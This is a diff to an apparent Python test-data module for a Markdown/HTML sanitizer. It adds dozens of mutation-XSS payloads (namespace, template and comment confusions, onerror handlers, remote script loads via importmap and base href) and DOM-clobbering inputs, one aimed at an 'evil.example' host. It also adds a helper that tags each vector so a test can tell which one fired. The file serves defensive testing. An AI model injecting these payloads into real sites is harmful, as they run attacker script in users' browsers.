@@ -326,6 +326,91 @@ NAMES = (
     "[^a]\n\n[^a]: > [^b]\n\n[^b]: - [^a]",
 )
 
+# What one parser takes for text and another for elements: templates, noscript, comments, namespaces, nesting.
+CONFUSIONS = (
+    f"<template><style></template><img src=x onerror={RUN}></style>",
+    f'<template><p title="</template><img src=x onerror={RUN}>">',
+    f"<template><template></template><script>{RUN}</script></template>",
+    f"<div><template shadowrootmode=open><slot></slot><img src=x onerror={RUN}></template></div>",
+    f"<noscript><style></noscript><img src=x onerror={RUN}></style>",
+    f"<noscript><!--</noscript><img src=x onerror={RUN}>-->",
+    f"<noscript><template></noscript><img src=x onerror={RUN}></template>",
+    f"<!--<img src=--><img src=x onerror={RUN}>",
+    f"<!--\n-->\n<script>{RUN}</script>",
+    f"<!---><!--><img src=x onerror={RUN}>",
+    f"<!-- <!-- --> <img src=x onerror={RUN}> -->",
+    f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
+    f"<![if true]><img src=x onerror={RUN}><![endif]>",
+    f"</ script><img src=x onerror={RUN}>",
+    f"</!><img src=x onerror={RUN}>",
+    f"<//><img src=x onerror={RUN}>",
+    f"<?><img src=x onerror={RUN}>",
+    f"<!><img src=x onerror={RUN}>",
+    f"<svg><title><style><img src=x onerror={RUN}></style></title></svg>",
+    f"<svg><desc><![CDATA[</desc><img src=x onerror={RUN}>]]></svg>",
+    f"<svg><style><img src=x onerror={RUN}></style></svg>",
+    f"<svg><style>&lt;img src=x onerror={RUN}&gt;</style></svg>",
+    f"<svg><textarea><title></textarea><img src=x onerror={RUN}>",
+    f"<svg><foreignobject><math><mi><svg><style><img src=x onerror={RUN}>",
+    f"<svg><annotation-xml><foreignobject><style><!--</style><p id='--><img src=x onerror={RUN}>'>",
+    f"<math><annotation-xml encoding='text/html'><style><!--</style><img title='--><img src=x onerror={RUN}>'>",
+    f"<math><mi><style><img src=x onerror={RUN}></style></mi></math>",
+    f"<math><mi><mglyph><svg><mtext><style><path id='</style><img src=x onerror={RUN}>'>",
+    f"<math><ms><malignmark><img src=x onerror={RUN}></ms></math>",
+    f"<math><semantics><annotation><img src=x onerror={RUN}></annotation></semantics></math>",
+    f"<math></p><form><mglyph><style><!--</style><img src=x onerror={RUN}>",
+    f"<form><div></form><form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
+    f"<select><template><style><!--</select></style><a rel='--></style></template></select><img src=x onerror={RUN}>'>",
+    f"<select><selectedcontent></selectedcontent><option><img src=x onerror={RUN}></option></select>",
+    f"<select><button><img src=x onerror={RUN}></button></select>",
+    f"<table><caption><svg><style></caption><img src=x onerror={RUN}></style>",
+    f"<table><colgroup><template><script>{RUN}</script></template></colgroup></table>",
+    f"<table><form><input type=hidden><tr><td></form><img src=x onerror={RUN}>",
+    f"<p><table><a><tr><a><img src=x onerror={RUN}></table>",
+    f"<a><b><a></b><img src=x onerror={RUN}></a>",
+    f"<button><p><button><img src=x onerror={RUN}>",
+    f"<nobr><nobr><dl><nobr><img src=x onerror={RUN}>",
+    f"<frameset></frameset><noframes><img src=x onerror={RUN}></noframes>",
+    f"<html><head><base href={HOST}><body><script src=js/x.js></script>",
+    f"<script><!--<script></script>--><img src=x onerror={RUN}></script>",
+    f"<script type=speculationrules>{{'prefetch':[{{'source':'list','urls':['{HOST}/p']}}]}}</script>",
+    f'<script type=importmap>{{"imports":{{"./element.js":"{HOST}/x.js"}}}}</script>',
+    f"<style media=x onload={RUN}></style><link rel=stylesheet href=x onerror={RUN}>",
+    f"<img loading=lazy src={HOST}/i.png><iframe loading=lazy src={HOST}></iframe>",
+    f"<img src=x&#10;onerror&#61;{RUN}>",
+    f"<img src=x on&#101;rror={RUN}>",
+    f"<img src='x'onerror='{RUN}'>",
+    f"<img \t\f/ src=x / onerror\f=\f{RUN} />",
+    f"<img src=x onerror={RUN} onerror=x>",
+    f"<a href='{HOST}' href='javascript:{RUN}'>x</a>",
+    f"<p is=x-y contenteditable autofocus onfocus={RUN}>x",
+    f"{'<div>' * 130}<img src=x onerror={RUN}>",
+    f"{'<b>' * 30}<p>{'</b>' * 30}<img src=x onerror={RUN}>",
+    f"{'> ' * 80}<img src=x onerror={RUN}>",
+    f"{'[' * 60}x{'](javascript:' + RUN + ')'}{']' * 59}",
+    f"{'*_' * 40}<img src=x onerror={RUN}>{'_*' * 40}",
+)
+
+# Names that the page itself looks up; a message must not be found in their place.
+CLOBBERS = (
+    *(
+        template.format(name)
+        for name in ("question", "announcer", "controls", "passage-title", "part-reply", "currentScript", "body")
+        for template in (
+            "<a id={0} name={0} href=javascript:1>x</a>",
+            "<form name={0}><input name=dataset></form>",
+            "x[^{0}]\n\n[^{0}]: y",
+        )
+    ),
+    "<form id=controls><input name=children><input name=querySelector><input name=parentNode></form>",
+    "<img name=documentElement><img name=body><img name=head><img name=scripts><embed name=location>",
+    "<iframe name=self></iframe><iframe name=customElements></iframe><object id=navigator></object>",
+    "<a id=studyin><a id=studyin name=config href='https://evil.example/'>x</a></a>",
+    "<div data-message=x data-role=user class='message question' id=message-x><p class=question-text>I agree</p></div>",
+    "<article class='message reply' data-status=streaming data-source=x>x</article>",
+    "<template id=part-reply><div></div></template>",
+)
+
 STYLES = (
     f"<style>body{{background:url({HOST}/i.png)}}</style>",
     f"<style>@import '{HOST}/x.css'</style>",
@@ -419,7 +504,8 @@ MARKS = (
 def _vectors() -> dict[str, str]:
     vectors = {f"{handler} of an element": f"<p tabindex=1 {handler}={RUN}>x</p>" for handler in HANDLERS}
     vectors |= {f"{handler} in running text": f"a <q contenteditable {handler}='{RUN}'>x</q> b" for handler in HANDLERS}
-    for group in ("ELEMENTS", "MUTATIONS", "QUOTES", "NAMES", "STYLES", "MARKS"):
+    groups = ("ELEMENTS", "MUTATIONS", "CONFUSIONS", "QUOTES", "NAMES", "CLOBBERS", "STYLES", "MARKS")
+    for group in groups:
         vectors |= {f"{group.lower()} {number}": text for number, text in enumerate(globals()[group])}
     vectors |= {f"elements {number} in running text": f"so *{text}* it is" for number, text in enumerate(ELEMENTS)}
     for form, template in ADDRESS_FORMS.items():
@@ -435,3 +521,8 @@ def _vectors() -> dict[str, str]:
 
 # Name to Markdown. Some hold halves of surrogate pairs, which no UTF-8 file can hold.
 VECTORS = _vectors()
+
+
+def numbered(number: int, vector: str) -> str:
+    """The same attack, telling which it is: it sets window.hostile to its number, and asks a host named after it."""
+    return vector.replace(RUN, f"window.hostile={number}").replace("evil.example", f"v{number}.evil.example")
